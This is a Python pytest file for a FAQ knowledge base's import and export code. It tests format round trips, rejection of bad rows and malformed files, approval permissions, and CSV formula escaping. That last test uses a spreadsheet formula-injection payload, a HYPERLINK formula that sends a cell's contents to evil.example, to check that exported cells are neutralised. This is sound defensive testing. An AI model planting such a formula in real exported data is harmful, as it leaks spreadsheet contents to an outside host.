"""Import and export: round trips in every format, and every reason a file is refused."""
from __future__ import annotations

import json

import pytest
from sqlalchemy import func, select

from kb import io, suggestable
from kb.errors import ImportFailed, PermissionDenied, ValidationFailed
from kb.models import Entry, EntryVersion
from kb.workflow import Status

# The operator's migration path (`flask kb import --approve-as`): approved by the importer alone, on purpose.
OPERATOR = {"target": Status.APPROVED, "allow_self_approval": True, "via": "cli"}

ROWS = [
    {"id": "faq-1", "question": "How do I restart my router?", "answer": "Unplug it for 30 seconds.",
     "lang": "en", "alternates": ["reboot modem", "router reset"], "category": "technical"},
    {"id": "faq-2", "question": "איך משלמים את החשבון?", "answer": "באפליקציה, תחת חשבונות. עמלה: {fee}",
     "lang": "he", "category": "billing", "placeholders": ["fee"], "variants": {"x": "באפליקציה. עמלה: {fee}"},
     "tags": ["billing", "app"], "review_by": "2031-05-01"},
    {"id": "faq-3", "question": "Do you sell my data?", "answer": "Never.", "lang": "en"},
]


def _count(session) -> int:
    return session.scalar(select(func.count()).select_from(Entry))


@pytest.mark.parametrize("fmt", io.FORMATS)
def test_export_import_export_is_identical(app, session, users, fmt: str) -> None:
    io.import_rows(session=session, rows=[dict(r) for r in ROWS], actor=users["approver"], **OPERATOR)
    first = io.write_rows(io.export_rows(session=session), fmt)
    assert "approved" in first

    from app import create_app
    from kb import storage

    empty = create_app({**app.config, "DATABASE_URL": "sqlite://"})
    storage.migrate_engine(storage.database(empty).engine)
    with empty.app_context():
        s = storage.session()
        from kb import accounts, owners

        owners.ensure_defaults(session=s)
        approver = accounts.create_user(session=s, username="imp", password="x" * 12, role="approver")
        io.import_rows(session=s, rows=io.read_rows(first, fmt), actor=approver, **OPERATOR)
        second = io.write_rows(io.export_rows(session=s), fmt)
    assert second == first


def test_import_keeps_alternates_categories_languages(session, users) -> None:
    counts = io.import_rows(session=session, rows=[dict(r) for r in ROWS], actor=users["approver"], **OPERATOR)
    assert counts == {"created": 3, "updated": 0, "unchanged": 0}
    exported = {r["id"]: r for r in io.export_rows(session=session)}
    assert exported["faq-1"]["alternates"] == ["reboot modem", "router reset"]
    assert exported["faq-2"]["category"] == "billing" and exported["faq-2"]["lang"] == "he"
    assert exported["faq-2"]["variants"] == {"x": "באפליקציה. עמלה: {fee}"}
    assert {v.question for v in suggestable.list_suggestable(session=session)} == {r["question"] for r in ROWS}


def test_import_without_approval_makes_drafts(session, users) -> None:
    io.import_rows(session=session, rows=[dict(r) for r in ROWS], actor=users["editor"])
    assert suggestable.list_suggestable(session=session) == []
    assert set(session.scalars(select(EntryVersion.status))) == {"draft"}


def test_reimport_adds_versions_only_where_changed(session, users) -> None:
    io.import_rows(session=session, rows=[dict(r) for r in ROWS], actor=users["approver"], **OPERATOR)
    changed = [dict(r) for r in ROWS]
    changed[0]["answer"] = "Unplug it for a full minute."
    counts = io.import_rows(session=session, rows=changed, actor=users["approver"], **OPERATOR)
    assert counts == {"created": 0, "updated": 1, "unchanged": 2}
    answers = {v.answer for v in suggestable.list_suggestable(session=session)}
    assert "Unplug it for a full minute." in answers and "Unplug it for 30 seconds." not in answers


BAD_ROWS = [
    ({"question": "Q?", "lang": "en"}, "row 2: missing answer"),
    ({"question": "Q?", "answer": "A.", "lang": "english"}, "row 2: language"),
    ({"question": "Q?", "answer": "A.", "lang": "en", "alternates": "not a list"}, "row 2: alternates must be"),
    ({"question": "Q?", "answer": "A.", "lang": "en", "category": "nope"}, "row 2: unknown category"),
    ({"question": "Q?", "answer": "A.", "lang": "en", "review_by": "tomorrow"}, "row 2: review_by"),
    ({"question": "Q?", "answer": "A {x}", "lang": "en"}, "row 2: undeclared placeholders"),
    ({"question": "Q?", "answer": "A.", "lang": "en", "variants": {"x": "y" * 300}}, "row 2: the x variant"),
    ({"id": "faq-1", "question": "Q?", "answer": "A.", "lang": "en"}, "row 2: id 'faq-1' appears twice"),
    ({"question": 5, "answer": "A.", "lang": "en"}, "row 2: question must be text"),
]


@pytest.mark.parametrize(("bad", "message"), BAD_ROWS)
def test_a_bad_row_stops_the_import_and_nothing_is_written(session, users, bad, message) -> None:
    rows = [dict(ROWS[0]), bad, dict(ROWS[2])]
    with pytest.raises(ImportFailed) as caught:
        io.import_rows(session=session, rows=rows, actor=users["approver"], **OPERATOR)
    assert message in str(caught.value)
    assert _count(session) == 0


@pytest.mark.parametrize(("text", "fmt", "message"), [
    ('{"question": "a"}\n{not json}\n', "jsonl", "row 2: not valid JSON"),
    ('[1, 2]', "json", "row 1: each entry must be a JSON object"),
    ('{"a": 1}', "json", "must hold a list"),
    ("question,answer,lang\nQ?,A.,en,extra\n", "csv", "row 2: more cells"),
    ('"just a string"\n', "jsonl", "row 1: each entry must be a JSON object"),
])
def test_malformed_files_name_the_row(text: str, fmt: str, message: str) -> None:
    with pytest.raises(ImportFailed, match=message):
        io.read_rows(text, fmt)


def test_unknown_extension_is_refused() -> None:
    with pytest.raises(ValidationFailed, match="unknown file type"):
        io.file_format("entries.xlsx")


def test_csv_reads_pipe_separated_lists_and_variant_columns() -> None:
    text = "id,question,answer,lang,alternates,variant_x\nr1,Q?,A.,en,one | two,short\n"
    assert io.read_rows(text, "csv") == [{"id": "r1", "question": "Q?", "answer": "A.", "lang": "en",
                                          "alternates": ["one", "two"], "variants": {"x": "short"}}]


def test_approving_import_needs_an_approver(session, users) -> None:
    with pytest.raises(PermissionDenied):
        io.import_rows(session=session, rows=[dict(ROWS[0])], actor=users["editor"], **OPERATOR)
    with pytest.raises(PermissionDenied):
        io.import_rows(session=session, rows=[dict(ROWS[0])], actor=users["agent"])


def test_jsonl_export_is_one_sorted_object_per_line(session, users) -> None:
    io.import_rows(session=session, rows=[dict(r) for r in ROWS], actor=users["approver"], **OPERATOR)
    lines = io.write_rows(io.export_rows(session=session), "jsonl").splitlines()
    assert [json.loads(line)["id"] for line in lines] == ["faq-1", "faq-2", "faq-3"]


def test_csv_cells_never_run_as_spreadsheet_formulas(session, users) -> None:
    import csv as std_csv
    import io as std_io

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [{"id": "=1+1", "question": "+972 number, how do I call?", "answer": formula, "lang": "en",
             "tags": ["@home"], "variants": {"x": "-5% today"}, "alternates": ["\tindented"]}]
    io.import_rows(session=session, rows=rows, actor=users["approver"], **OPERATOR)
    text = io.write_rows(io.export_rows(session=session), "csv")
    cells = [cell for row in list(std_csv.reader(std_io.StringIO(text)))[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'" + formula in cells and "'=1+1" in cells and "'-5% today" in cells
    back = io.read_rows(text, "csv")[0]  # and the quote is taken off again on import
    assert back["answer"] == formula and back["id"] == "=1+1" and back["variants"] == {"x": "-5% today"}
    assert back["question"] == "+972 number, how do I call?"
